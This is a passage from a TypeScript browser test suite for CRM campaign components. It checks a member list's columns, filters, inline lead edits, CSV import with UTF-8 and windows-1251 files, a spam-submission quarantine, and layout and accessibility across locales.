      const { el, adapter } = await renderWithAdapter<CampaignMemberList>(
        html`<campaign-member-list campaign="E" columns="name,status,rating,source,lead-status,custom.tier" custom-fields="tier"></campaign-member-list>`,
        classified,
      );
      await ready(el);
      const headers = [...root(el).querySelectorAll('[role=columnheader]')].map((h) => h.textContent!.trim()).slice(1);
      expect(headers).to.deep.equal(['Name▲', 'Status', 'Rating', 'Lead source', 'Lead status', 'tier']);
      expect(rows(el)).to.deep.equal([
        // A lead's rating and lead status are selects (their values here), the rest text.
        ['Fara Ali', 'Registered', '', 'Web', 'open', ''],
        ['Emil Ionescu', 'Registered', 'cold', 'Phone', 'open', ''],
        ['Chloé Martin', 'Registered', 'hot', 'Web', 'open', ''],
        ['Bảo Nguyễn', 'Registered', 'warm', 'Event', 'open', ''],
        ['Ana Popescu', 'Registered', 'hot', 'Event', 'open', 'gold'],
      ]);
      // A field column's header is no sort button; Enter on it says why nothing moved.
      const rating = root(el).querySelector('#h-3')!;
      expect(rating.querySelector('button')).to.equal(null);
      expect(rating.querySelector('[title]')!.getAttribute('title')).to.equal('Rating cannot be sorted: filter by it instead');
      grid(el).focus();
      for (let i = 0; i < 2; i++) key(el, 'ArrowRight');
      key(el, 'ArrowUp');
      key(el, 'Enter');
      await el.updateComplete;
      expect(root(el).querySelector('.announce')!.textContent).to.contain('Rating cannot be sorted');
      expect(el.sort).to.equal('name');
      // A rating set elsewhere shows in its row.
      const chloe = (await adapter.pagePeople({ search: 'chloe' })).items[0].person;
      await adapter.classifyLeads({ leads: [{ id: chloe.id, version: chloe.version }], rating: 'cold' });
      await waitUntil(() => rows(el)[2][2] === 'cold', 'the new rating shown');
      // The picker offers the catalogue's fields and the declared custom ones.
      button(el, 'Columns').click();
      await el.updateComplete;
      const offered = [...root(el).querySelectorAll('.columns-picker label')].map((l) => l.textContent!.trim());
      expect(offered).to.include.members(['Rating', 'Lead source', 'Lead status', 'Country', 'Title', 'tier', 'Email']);
      const country = [...root(el).querySelectorAll('.columns-picker label')].find((l) => l.textContent!.trim() === 'Country')!.querySelector('input')!;
      country.click();
      await waitUntil(() => rows(el)[0].length === 7, 'the country column shown');
      expect(rows(el).map((r) => r[6])).to.deep.equal(['', 'romania', 'France', 'Vietnam', 'Romania']);
      await expect(el).to.be.accessible();
    });

    it("edits a lead's rating and lead status in their cells (version-checked; a stale one is reported), and a contact's not at all", async () => {
      const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,rating,lead-status"></campaign-member-list>`, async (a) => {
        await classified(a);
        const zoe = await a.createLead({ firstName: 'Zoe', lastName: 'Zed', email: 'zoe@example.com', rating: 'hot' });
        await a.addMembers({ campaignId: 'E', people: [{ type: 'lead', id: zoe.id }] });
        await a.convertLead({ leadId: zoe.id, leadVersion: zoe.version, account: { mode: 'new' }, contact: { mode: 'new' } });
      });
      await ready(el);
      const cell = (row: number, col: number) => root(el).querySelector<HTMLElement>(`#c-${row}-${col}`)!;
      // Emil Ionescu (row 1): cold, open.
      const rating = cell(1, 2).querySelector('select')!;
      expect(rating.getAttribute('aria-label')).to.equal('Rating of Emil Ionescu');
      expect(rating.value).to.equal('cold');
      const classifiedEvent = oneEvent(el, 'leads-classified');
      rating.value = 'warm';
      rating.dispatchEvent(new Event('change'));
      expect((await classifiedEvent).detail.leads[0].rating).to.equal('warm');
      const emil = (await adapter.pagePeople({ search: 'emil' })).items[0].person as { rating?: string; version: number };
      expect(emil.rating).to.equal('warm');
      await waitUntil(() => root(el).querySelector('.announce')!.textContent!.includes('Rating'), 'said');
      // By keyboard: Enter on the lead status cell focuses its select; arrows move, Enter saves once.
      grid(el).focus();
      key(el, 'ArrowDown');
      key(el, 'ArrowDown');
      key(el, 'ArrowRight');
      key(el, 'ArrowRight');
      key(el, 'Enter');
      await el.updateComplete;
      const status = cell(1, 3).querySelector('select')!;
      expect(root(el).activeElement).to.equal(status);
      await sendKeys({ press: 'ArrowDown' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(async () => ((await adapter.pagePeople({ search: 'emil' })).items[0].person as { status?: string }).status === 'working', 'lead status saved');
      // A stale edit: someone changed Chloé (row 2) meanwhile.
      await waitUntil(() => cell(1, 3).querySelector('select')?.value === 'working');
      const chloe = (await adapter.pagePeople({ search: 'chloe' })).items[0].person;
      const stale = cell(2, 2).querySelector('select')!;
      await adapter.updateLead(chloe.id, chloe.version, { title: 'CEO' }, {});
      stale.value = 'cold';
      stale.dispatchEvent(new Event('change'));
      await waitUntil(() => root(el).querySelector('.problem'), 'the conflict reported');
      expect(root(el).querySelector('.problem')!.textContent).to.contain('changed');
      expect(((await adapter.pagePeople({ search: 'chloe' })).items[0].person as { rating?: string }).rating).to.equal('hot');
      // A contact's row has no rating to edit.
      await waitUntil(() => rows(el).some((r) => r[0] === 'Zoe Zed'), 'the contact listed');
      const zoe = rows(el).findIndex((r) => r[0] === 'Zoe Zed');
      expect(cell(zoe, 2).querySelector('select')).to.equal(null);
      await expect(el).to.be.accessible();
    });

    it('filters by the people\'s fields: the `filter` attribute, chips to remove, a keyboard-operable builder; the export has the field columns', async () => {
      const { el } = await renderWithAdapter<CampaignMemberList>(
        html`<campaign-member-list campaign="E" columns="name,rating,source" filter="rating=hot; source=event; salary=1"></campaign-member-list>`,
        classified,
      );
      await ready(el);
      await waitUntil(() => rowCount(el) === 1, 'one hot event lead');
      expect(rows(el)).to.deep.equal([['Ana Popescu', 'hot', 'Event']]);
      const chips = () => [...root(el).querySelectorAll('.filter-chip span')].map((c) => c.textContent!.trim());
      expect(chips()).to.deep.equal(['Rating: Hot', 'Lead source: Event']);
      expect(root(el).querySelector('.dropped')!.textContent).to.contain('salary=1');
      // Removing a chip widens the list.
      root(el).querySelector<HTMLButtonElement>('[aria-label="Remove filter: Lead source: Event"]')!.click();
      await waitUntil(() => rowCount(el) === 2, 'both hot leads');
      expect(rows(el).map((r) => r[0])).to.deep.equal(['Chloé Martin', 'Ana Popescu']);
      // The builder, by keyboard: Filters, a field, a value, Enter.
      const toggle = button(el, 'Filters (1)');
      expect(toggle.getAttribute('aria-expanded')).to.equal('false');
      toggle.focus();
      await sendKeys({ press: 'Enter' });
      await el.updateComplete;
      expect(toggle.getAttribute('aria-expanded')).to.equal('true');
      const field = root(el).querySelector<HTMLSelectElement>('.filter-builder select')!;
      field.value = 'country';
      field.dispatchEvent(new Event('change'));
      await el.updateComplete;
      const text = root(el).querySelector<HTMLInputElement>('.filter-builder input')!;
      text.focus();
      await sendKeys({ type: 'roman' });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => rowCount(el) === 1, 'one hot lead in Romania');
      expect(chips()).to.deep.equal(['Rating: Hot', 'Country contains “roman”']);
      expect(root(el).querySelector('.announce')!.textContent).to.contain('Filter added: Country contains “roman”');
      await expect(el).to.be.accessible();
      const exported = oneEvent(el, 'members-export');
      el.addEventListener('members-export', (e) => e.preventDefault(), { once: true });
      button(el, 'Export CSV').click();
      expect(parseCsv((await exported).detail.csv)).to.deep.equal([
        ['First name', 'Last name', 'Rating', 'Lead source'],
        ['Ana', 'Popescu', 'hot', 'event'],
      ]);
      // "Clear filters" of an empty result clears the field conditions with the search and status.
      el.search = 'nobody';
      await waitUntil(() => root(el).querySelector('.no-match'), 'no match');
      root(el).querySelector<HTMLButtonElement>('.no-match button')!.click();
      await waitUntil(() => rowCount(el) === 5, 'everyone again');
      expect(chips()).to.deep.equal([]);
    });
  });

  it('speaks Ukrainian: headers, counts and default statuses', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" locale="uk"></campaign-member-list>`, (a) => seed(a, 3));
    await ready(el);
    expect(textOf(el)).to.include('Учасники кампанії');
    expect(textOf(el)).to.include('Зареєстровано');
    expect(rows(el)[0][1]).to.equal('Лід');
    await expect(el).to.be.accessible();
  });
});

/** Windows-1251 bytes of a string (Cyrillic letters and ASCII only). */
function cp1251(text: string): Uint8Array<ArrayBuffer> {
  return Uint8Array.from([...text].map((ch) => {
    const c = ch.codePointAt(0)!;
    if (c < 128) return c;
    if (c >= 0x410 && c <= 0x44f) return c - 0x410 + 0xc0;
    if (c === 0x401) return 0xa8;
    if (c === 0x451) return 0xb8;
    throw new Error(`not in the test encoder: ${ch}`);
  }));
}

describe('<campaign-member-import>', () => {
  const utf8 = (text: string) => new TextEncoder().encode(text);

  it('imports a UTF-8 file with BOM and Cyrillic names: a malformed row reported, a known email matched, not duplicated', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberImport>(html`<campaign-member-import campaign="E"></campaign-member-import>`, async (a) => {
      await seed(a, 0);
      await a.createLead({ firstName: 'Existing', email: 'dup@example.com' });
    });
    const csv = '\ufeffИмя;Фамилия;Электронная почта;Компания\r\nОлена;Шевченко;olena@example.ua;Світанок\r\nДмитрий;Иванов;not-an-email;Вектор\r\nПавло;Дубовий;DUP@example.com;\r\nІрина;Бондаренко;iryna@example.ua;"Світанок; філія"\r\n';
    await el.load(new File([utf8(csv)], 'leads.csv', { type: 'text/csv' }));
    await el.updateComplete;
    expect(textOf(el)).to.include('Rows in the file: 4');
    const mapping = [...root(el).querySelectorAll<HTMLSelectElement>('.mapping select')].map((s) => s.value);
    expect(mapping).to.deep.equal(['firstName', 'lastName', 'email', 'company']);
    expect(textOf(el)).to.include('Світанок; філія');
    await expect(el).to.be.accessible();
    const imported = oneEvent(el, 'members-imported');
    button(el, 'Import 4 rows').click();
    const { detail } = await imported;
    expect(detail.result).to.deep.include({ created: 2, matched: 1, membersCreated: 3 });
    expect(detail.result.errors).to.deep.equal([{ row: 2, path: 'email', code: 'email', message: detail.result.errors[0].message }]);
    await el.updateComplete;
    expect(textOf(el)).to.include('Rows not imported: 1');
    expect(textOf(el)).to.include('Row 3 · Email: Enter an email address like name@example.com.');
    await expect(el).to.be.accessible();
    const errors = parseCsv(el.errorCsv());
    expect(errors[0]).to.deep.equal(['#', 'Имя', 'Фамилия', 'Электронная почта', 'Компания', 'Error']);
    expect(errors[1].slice(0, 4)).to.deep.equal(['Row 3', 'Дмитрий', 'Иванов', 'not-an-email']);
    const counts = await adapter.countMembers('E');
    expect(counts.total).to.equal(3);
    const dup = await adapter.findPersonByEmail('dup@example.com');
    expect((await adapter.getLead(dup!.id)).firstName).to.equal('Existing');
  });

  it('imports contacts when chosen: a known email creates no one and its membership is updated, companies go to accounts', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberImport>(html`<campaign-member-import campaign="E"></campaign-member-import>`, async (a) => {
      await seed(a, 0);
      const lead = await a.createLead({ firstName: 'Known', lastName: 'Customer', email: 'known@acme.com', company: 'Acme' });
      await a.convertLead({ leadId: lead.id, leadVersion: lead.version, account: { mode: 'new' }, contact: { mode: 'new' } });
    });
    const csv = 'Email,First name,Last name,Company\nknown@ACME.com,Known,Customer,Acme\nnew@acme.com,Nina,New,ACME Inc.\nother@globex.com,Otto,Other,Globex\n';
    await el.load(new File([utf8(csv)], 'customers.csv', { type: 'text/csv' }));
    await el.updateComplete;
    const contact = root(el).querySelector<HTMLInputElement>('input[type=radio][value=contact]')!;
    expect(contact.closest('label')!.textContent!.trim()).to.equal("Contacts (customers), filed under their company's account");
    contact.click();
    await el.updateComplete;
    await expect(el).to.be.accessible();
    const imported = oneEvent(el, 'members-imported');
    button(el, 'Import 3 rows').click();
    const { detail } = await imported;
    expect(detail.result).to.deep.include({ created: 2, matched: 1, membersCreated: 3 });
    await el.updateComplete;
    expect(textOf(el)).to.include('Import finished: 2 new contacts, 1 matched');
    const people = (await adapter.pagePeople({ limit: 10 })).items;
    expect(people.map((p) => [p.type, p.person.lastName, (p.person as { company?: string }).company])).to.deep.equal([
      ['contact', 'Customer', 'Acme'],
      ['contact', 'New', 'Acme'], // "ACME Inc." is Acme's account
      ['contact', 'Other', 'Globex'],
    ]);
    expect((await adapter.countMembers('E')).total).to.equal(3);
  });

  it('reads a windows-1251 file when that encoding is chosen, and refuses a file over the limit before reading it', async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberImport>(html`<campaign-member-import campaign="E" max-bytes="200"></campaign-member-import>`, (a) => seed(a, 0));
    const encoding = byLabel<HTMLSelectElement>(el, 'Encoding (when the file has no BOM)');
    encoding.value = 'windows-1251';
    encoding.dispatchEvent(new Event('change'));
    await el.load(new File([cp1251('Email;Имя\r\nivan@example.ru;Иван\r\n')], 'legacy.csv'));
    await el.updateComplete;
    expect(textOf(el)).to.include('Иван');
    button(el, 'Import 1 rows').click();
    await waitUntil(async () => (await adapter.countMembers('E')).total === 1);
    const lead = await adapter.findPersonByEmail('ivan@example.ru');
    expect((await adapter.getLead(lead!.id)).firstName).to.equal('Иван');
    button(el, 'Import another file').click();
    await el.updateComplete;
    const big = new File([new Uint8Array(201)], 'big.csv');
    let read = false;
    Object.defineProperty(big, 'arrayBuffer', { value: () => ((read = true), Promise.resolve(new ArrayBuffer(201))) });
    await el.load(big);
    await el.updateComplete;
    expect(read).to.equal(false);
    expect(root(el).querySelector('[role=alert]')!.textContent).to.contain('larger than');
    await expect(el).to.be.accessible();
  });

  it('takes a file dropped on its zone, or chosen through the input that covers it (by click or keyboard)', async () => {
    const { el } = await renderWithAdapter<CampaignMemberImport>(html`<campaign-member-import campaign="E"></campaign-member-import>`, (a) => seed(a, 0));
    await waitUntil(() => root(el).querySelector('[part=drop-zone]'));
    const zone = root(el).querySelector<HTMLElement>('[part=drop-zone]')!;
    const input = root(el).querySelector<HTMLInputElement>('#file')!;
    // The input spans the zone (inside its 2 px border): a click anywhere on it opens the chooser.
    const [z, i] = [zone.getBoundingClientRect(), input.getBoundingClientRect()];
    expect(i.width).to.equal(z.width - 4);
    expect(i.height).to.equal(z.height - 4);
    expect(byLabel(el, 'CSV file')).to.equal(input);
    await expect(el).to.be.accessible();
    const files = new DataTransfer();
    files.items.add(new File([utf8('Email,First name\nana@example.com,Ana\n')], 'dropped.csv', { type: 'text/csv' }));
    zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: files, bubbles: true, cancelable: true }));
    await el.updateComplete;
    expect(zone.classList.contains('over')).to.equal(true);
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: files, bubbles: true, cancelable: true }));
    await waitUntil(() => textOf(el).includes('Rows in the file: 1'), 'the dropped file is read');
  });

  it('asks for an email column before importing', async () => {
    const { el } = await renderWithAdapter<CampaignMemberImport>(html`<campaign-member-import campaign="E"></campaign-member-import>`, (a) => seed(a, 0));
    await el.load(new File([utf8('Name,Phone\nAna,123\n')], 'x.csv'));
    await el.updateComplete;
    expect(textOf(el)).to.include('Match one column to Email');
    expect(button(el, 'Import 1 rows').disabled).to.equal(true);
    const select = root(el).querySelectorAll<HTMLSelectElement>('.mapping select')[0];
    select.value = 'email';
    select.dispatchEvent(new Event('change'));
    await el.updateComplete;
    expect(button(el, 'Import 1 rows').disabled).to.equal(false);
  });
});

describe('<campaign-member-list> bugs found in a first hour of use', () => {
  it('unticks the header checkbox when a mixed selection is cleared, so the next click selects all', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 30));
    await ready(el);
    const header = () => root(el).querySelector<HTMLInputElement>('[role=columnheader] input[type=checkbox]')!;
    checkbox(el, 0).click();
    await el.updateComplete;
    expect(header().indeterminate).to.equal(true);
    header().click(); // clears the mixed selection
    await el.updateComplete;
    expect(header().checked, 'unticked').to.equal(false);
    expect(header().indeterminate).to.equal(false);
    expect(root(el).querySelector('[part=bulk-bar]')).to.equal(null);
    header().click(); // now selects every member matching
    await el.updateComplete;
    expect(header().checked).to.equal(true);
    expect(root(el).querySelector('[part=bulk-bar]')!.textContent).to.contain('Selected: 30');
  });

  it('clears the selection with Escape wherever the focus is in the list, and Escape closes the Columns panel first', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 10));
    await ready(el);
    button(el, 'Columns').click();
    await el.updateComplete;
    checkbox(el, 1).click();
    await el.updateComplete;
    const picker = root(el).querySelector<HTMLInputElement>('#columns input')!;
    picker.focus();
    picker.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    await el.updateComplete;
    expect(root(el).querySelector('#columns'), 'panel closed').to.equal(null);
    expect(root(el).activeElement, 'focus back on the Columns button').to.equal(button(el, 'Columns'));
    expect(root(el).querySelector('[part=bulk-bar]'), 'selection kept').not.to.equal(null);
    // Focus on the bulk bar's status select, not on the grid.
    const status = root(el).querySelector<HTMLSelectElement>('.bulk select')!;
    status.focus();
    status.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
    await el.updateComplete;
    expect(root(el).querySelector('[part=bulk-bar]'), 'selection cleared').to.equal(null);
  });

  it("shows a converted contact's company (its account's name) in the list, the export and the search", async () => {
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,type,company"></campaign-member-list>`, async (a) => {
      await seed(a, 2);
    });
    await ready(el);
    const ref = await adapter.findPersonByEmail('p0@example.com');
    await adapter.convertLead({ leadId: ref!.id, leadVersion: (await adapter.getLead(ref!.id)).version, account: { mode: 'new', name: 'ТОВ «Світанок»' }, contact: { mode: 'new' } });
    await waitUntil(() => rows(el).some((r) => r[1] === 'Contact'), 'the member is a contact now');
    expect(rows(el).find((r) => r[1] === 'Contact')![2]).to.equal('ТОВ «Світанок»');
    el.search = 'світанок';
    await waitUntil(() => rowCount(el) === 1 && rows(el)[0][2] === 'ТОВ «Світанок»', 'found by company');
    const exported = oneEvent(el, 'members-export');
    el.addEventListener('members-export', (e) => e.preventDefault(), { once: true });
    await el.exportCsv();
    const csv = parseCsv((await exported).detail.csv);
    expect(csv[1]).to.include('ТОВ «Світанок»');
  });

  it('names people family name first in Vietnamese, and as `name-order` says when set', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,email" locale="vi"></campaign-member-list>`, (a) => seed(a, 3));
    await ready(el);
    await waitUntil(() => rows(el).some((r) => r[0] === 'adams F0002'), 'family name first');
    el.nameOrder = 'given-first';
    await waitUntil(() => rows(el).some((r) => r[0] === 'F0002 adams'), 'given name first when asked');
  });

  it('picks its columns by its own width, and below ~600 px shows cards: the email under the name', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, (a) => seed(a, 20));
    el.style.width = '800px';
    await ready(el);
    const headers = () => [...root(el).querySelectorAll('[role=columnheader]')].map((h) => h.textContent!.replace(/[▲▼]/g, '').trim()).slice(1);
    await waitUntil(() => headers().length === 4, 'four columns at 800 px');
    expect(headers()).to.deep.equal(['Name', 'Type', 'Email', 'Status']);
    el.style.width = '360px';
    await waitUntil(() => headers().length === 2, 'cards at 360 px');
    expect(headers()).to.deep.equal(['Name', 'Status']);
    await waitUntil(() => root(el).querySelector('.body [role=row]:not(.placeholder) .cell.name .sub'), 'email under the name');
    const cell = root(el).querySelector('.body [role=row]:not(.placeholder) .cell.name')!;
    expect(cell.querySelector('.sub')!.textContent).to.match(/^p\d+@example\.com$/);
    expect(grid(el).scrollWidth, 'no sideways scrolling').to.be.at.most(grid(el).clientWidth + 1);
    await expect(el).to.be.accessible();
    el.columns = 'name,company';
    await waitUntil(() => headers().join() === 'Name,Company', 'the choice of the page wins');
    el.style.width = '';
  });

  it('gives the type badge and the dates the width their language needs (Vietnamese at 1280 px): nothing cut', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" locale="vi"></campaign-member-list>`, (a) => seed(a, 5));
    el.style.width = '1248px';
    await ready(el);
    const cut = (selector: string) =>
      [...root(el).querySelectorAll<HTMLElement>(`.body [role=row]:not(.placeholder) ${selector}`)].filter((e) => e.scrollWidth > e.clientWidth + 1).map((e) => e.textContent);
    await waitUntil(() => root(el).querySelector('.body .badge'), 'badges shown');
    expect(root(el).querySelector('.body .badge')!.textContent).to.equal('Khách tiềm năng');
    expect(cut('.badge'), 'badges').to.deep.equal([]);
    expect(cut('.cell.added, .cell.added .text'), 'dates').to.deep.equal([]);
    // The same list in English keeps the narrower defaults (more room for names and emails).
    el.locale = 'en';
    await waitUntil(() => root(el).querySelector('.body .badge')!.textContent === 'Lead');
    expect(cut('.badge, .cell.added, .cell.added .text')).to.deep.equal([]);
    el.style.width = '';
  });

  it("keeps the selection box and the name in view when a page's columns are wider than the list", async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,company,email,status"></campaign-member-list>`, (a) => seed(a, 5));
    el.style.width = '360px';
    await ready(el);
    const vp = grid(el);
    await waitUntil(() => vp.scrollWidth > vp.clientWidth + 100, 'the columns are wider than the list');
    const name = () => root(el).querySelector<HTMLElement>('.body [role=row]:not(.placeholder) .cell.name')!;
    const box = () => root(el).querySelector<HTMLElement>('.body [role=row]:not(.placeholder) .cell.check')!;
    const before = name().getBoundingClientRect().left;
    vp.scrollLeft = 200;
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
    expect(name().getBoundingClientRect().left).to.be.closeTo(before, 1);
    expect(box().getBoundingClientRect().left).to.be.closeTo(vp.getBoundingClientRect().left + 1, 1);
    // What scrolled under the name is hidden behind it (the cell is opaque).
    expect(getComputedStyle(name()).backgroundColor).not.to.equal('rgba(0, 0, 0, 0)');
    expect(getComputedStyle(name()).boxShadow).not.to.equal('none');
    await expect(el).to.be.accessible();
    el.style.width = '';
  });

  it('shows submissions held as suspected spam under "Suspected spam (n)": released into the campaign once, like a submission; deleted for good', async () => {
    const held = (email: string, firstName: string, reason: 'no-interaction' | 'too-fast') => ({
      submission: { submissionId: `held-${email}`, campaignId: 'E', lead: { email, firstName, lastName: 'Real', company: 'Acme' } },
      reason,
    });
    const { el, adapter } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E"></campaign-member-list>`, async (a) => {
      await seed(a, 3);
      await a.holdSubmission(held('person@example.com', 'Olena', 'too-fast'));
      await a.holdSubmission(held('bot@example.com', 'Bot', 'no-interaction'));
    });
    await ready(el);
    await waitUntil(() => root(el).querySelector('.suspected-toggle'), 'the toggle shows what is held');
    const toggle = root(el).querySelector<HTMLButtonElement>('.suspected-toggle')!;
    expect(toggle.textContent!.trim()).to.equal('Suspected spam (2)');
    expect(toggle.getAttribute('aria-pressed')).to.equal('false');
    toggle.click();
    await el.updateComplete;
    expect(el.suspected).to.equal(true);
    expect(toggle.getAttribute('aria-pressed')).to.equal('true');
    const table = () => [...root(el).querySelectorAll('.held-table tbody tr')].map((r) => [...r.children].slice(0, 4).map((c) => c.textContent!.trim()));
    expect(table()).to.have.deep.members([
      ['Olena Real', 'person@example.com', 'Acme', 'Filled too fast'],
      ['Bot Real', 'bot@example.com', 'Acme', 'No typing or clicks'],
    ]);
    expect(root(el).querySelector('[role=grid]')).to.equal(null); // the members give way to the quarantine
    await expect(el).to.be.accessible();

    // Release: the person joins the campaign, once; the count and the list follow.
    const release = root(el).querySelector<HTMLButtonElement>('button[aria-label="Release Olena Real into the campaign"]')!;
    release.click();
    await waitUntil(() => root(el).querySelector('.held [role=status]')!.textContent!.includes('Olena Real was released'), 'the release is announced');
    await waitUntil(() => table().length === 1, 'the released one leaves the quarantine');
    expect(toggle.textContent!.trim()).to.equal('Suspected spam (1)');
    expect((await adapter.countMembers('E')).total).to.equal(4);
    const person = await adapter.findPersonByEmail('person@example.com');
    expect(person?.type).to.equal('lead');
    await adapter.releaseHeldSubmission('held-person@example.com').then(
      () => expect.fail('released twice'),
      (e: Error) => expect(e.name).to.equal('NotFoundError'),
    );

    // Delete: gone for good, nothing captured.
    root(el).querySelector<HTMLButtonElement>('button[aria-label="Delete Bot Real"]')!.click();
    await waitUntil(() => root(el).querySelector('.held .empty'), 'nothing held any more');
    expect(await adapter.findPersonByEmail('bot@example.com')).to.equal(null);
    expect((await adapter.countMembers('E')).total).to.equal(4);
    await expect(el).to.be.accessible();

    // Back to the members: the released person is on the list.
    button(el, 'Back to members').click();
    await el.updateComplete;
    await ready(el);
    await waitUntil(() => rows(el).some((r) => r.includes('person@example.com')), 'the released person is a member');
    expect(root(el).querySelector('.suspected-toggle')).to.equal(null); // nothing held: no toggle
  });

  it('shows nothing of the quarantine in compact mode (a related list)', async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" compact></campaign-member-list>`, async (a) => {
      await seed(a, 2);
      await a.holdSubmission({ submission: { submissionId: 'held-compact-1', campaignId: 'E', lead: { email: 'x@example.com' } }, reason: 'too-fast' });
    });
    await waitUntil(() => root(el).querySelector('.compact-table tbody tr'), 'compact rows shown', { timeout: 5000 });
    await new Promise((r) => setTimeout(r, 100));
    expect(root(el).querySelector('.suspected-toggle')).to.equal(null);
  });

  it('compact density (the attribute, or --lead-kit-density on the page) fits more rows in the same height, with smaller controls and text', async () => {
    const visible = async (template: ReturnType<typeof html>) => {
      const { el } = await renderWithAdapter<CampaignMemberList>(template, (a) => seed(a, 60));
      const list = (el.localName === 'campaign-member-list' ? el : el.querySelector('campaign-member-list')!) as CampaignMemberList;
      await ready(list);
      await list.updateComplete;
      await new Promise((r) => setTimeout(r, 50));
      const vp = root(list).querySelector<HTMLElement>('.viewport')!.getBoundingClientRect();
      const rows = [...root(list).querySelectorAll<HTMLElement>('.body [role=row]')].filter((r) => r.getBoundingClientRect().bottom <= vp.bottom + 1 && r.getBoundingClientRect().top >= vp.top);
      const button = root(list).querySelector<HTMLElement>('.toolbar button')!;
      return { rows: rows.length, row: rows[0].getBoundingClientRect().height, button: button.getBoundingClientRect().height, text: parseFloat(getComputedStyle(rows[0]).fontSize) };
    };
    const style = '--lead-kit-list-height: 22rem';
    const comfortable = await visible(html`<campaign-member-list campaign="E" columns="name,status" style=${style}></campaign-member-list>`);
    const compact = await visible(html`<campaign-member-list campaign="E" columns="name,status" density="compact" style=${style}></campaign-member-list>`);
    const byToken = await visible(html`<div style="--lead-kit-density: compact"><campaign-member-list campaign="E" columns="name,status" style=${style}></campaign-member-list></div>`);
    expect(comfortable.row).to.equal(44);
    expect(compact.row).to.equal(32);
    expect(compact.rows).to.be.greaterThan(comfortable.rows * 1.3);
    expect(compact.button).to.be.below(comfortable.button);
    expect(compact.text).to.equal(13);
    expect(byToken).to.deep.equal(compact);
  });

  it('is compact from its first painted frame on a compact page (the page density is read once per frame for every element)', async () => {
    const host = document.createElement('div');
    host.style.setProperty('--lead-kit-density', 'compact');
    document.body.append(host);
    try {
      const el = document.createElement('campaign-member-list') as CampaignMemberList;
      el.setAttribute('campaign', 'E');
      host.append(el);
      expect(el.dataset.density).to.equal(undefined); // not read at connect: that forced a style calculation per element
      // A frame callback registered now runs after the density read and its update, before the frame is painted.
      const atFirstFrame = await new Promise<string | undefined>((r) => requestAnimationFrame(() => r(el.dataset.density)));
      expect(atFirstFrame).to.equal('compact');
    } finally {
      host.remove();
    }
  });

  it('sizes the status column to its longest status in the language: no cut select in Russian or Ukrainian', async () => {
    const ctx = document.createElement('canvas').getContext('2d')!;
    for (const locale of ['ru', 'uk', 'vi']) {
      const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" locale=${locale}></campaign-member-list>`, (a) => seed(a, 5));
      await ready(el);
      await el.updateComplete;
      // Every row's status button shows its label whole.
      const buttons = [...root(el).querySelectorAll<HTMLButtonElement>('.body .cell.status button')];
      expect(buttons.length, locale).to.be.greaterThan(0);
      for (const b of buttons) expect(b.scrollWidth, `${locale} "${b.textContent!.trim()}"`).to.be.at.most(b.clientWidth + 1);
      // The longest label of the campaign, chosen in the first row's select: it must fit as well.
      const select = await statusEditor(el);
      const longest = [...select.options].reduce((a, b) => (b.text.length > a.text.length ? b : a));
      select.value = longest.value;
      const style = getComputedStyle(select);
      ctx.font = `${style.fontWeight} ${style.fontSize} ${style.fontFamily}`;
      const need = ctx.measureText(select.selectedOptions[0].text).width + parseFloat(style.paddingLeft) + parseFloat(style.paddingRight) + 16;
      expect(need, `${locale} "${select.selectedOptions[0].text}"`).to.be.at.most(select.clientWidth + 1);
      el.parentElement!.remove();
    }
  });

  it('is as tall as its few rows (one member: one row, no empty box), and scrolls at the list height', async () => {
    const height = async (n: number) => {
      const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,status"></campaign-member-list>`, (a) => seed(a, n));
      await ready(el);
      await waitUntil(() => root(el).querySelector('.viewport.fits'), 'every row known');
      const h = root(el).querySelector<HTMLElement>('.viewport')!.getBoundingClientRect().height;
      el.parentElement!.remove();
      return h;
    };
    const one = await height(1);
    expect(one).to.be.within(44 * 2, 44 * 3); // the header and one row
    expect(await height(3)).to.be.within(one + 2 * 44 - 2, one + 2 * 44 + 2);
    expect(await height(200)).to.be.within(28 * 16, 28 * 16 + 2); // the list height (and its border): it scrolls
  });

  it("names each row once: the name is the row's header, the selection box just 'Select' (the name when no name column)", async () => {
    const { el } = await renderWithAdapter<CampaignMemberList>(html`<campaign-member-list campaign="E" columns="name,email,status"></campaign-member-list>`, (a) => seed(a, 3));
    await ready(el);
    const row = root(el).querySelector('.body [role=row]')!;
    const name = row.querySelector('[role=rowheader]')!.textContent!.trim();
    expect(name).to.match(/F000\d/);
    expect(row.querySelector('input[type=checkbox]')!.getAttribute('aria-label')).to.equal('Select');
    // The text a screen reader reads for the row holds the name once.
    const spoken = [row.querySelector('input')!.getAttribute('aria-label'), ...[...row.querySelectorAll('[role=rowheader], [role=gridcell]')].map((c) => c.textContent!.trim())].join(' ');
    expect(spoken.split(name).length - 1).to.equal(1);
    await expect(el).to.be.accessible();
    el.columns = 'email,status';
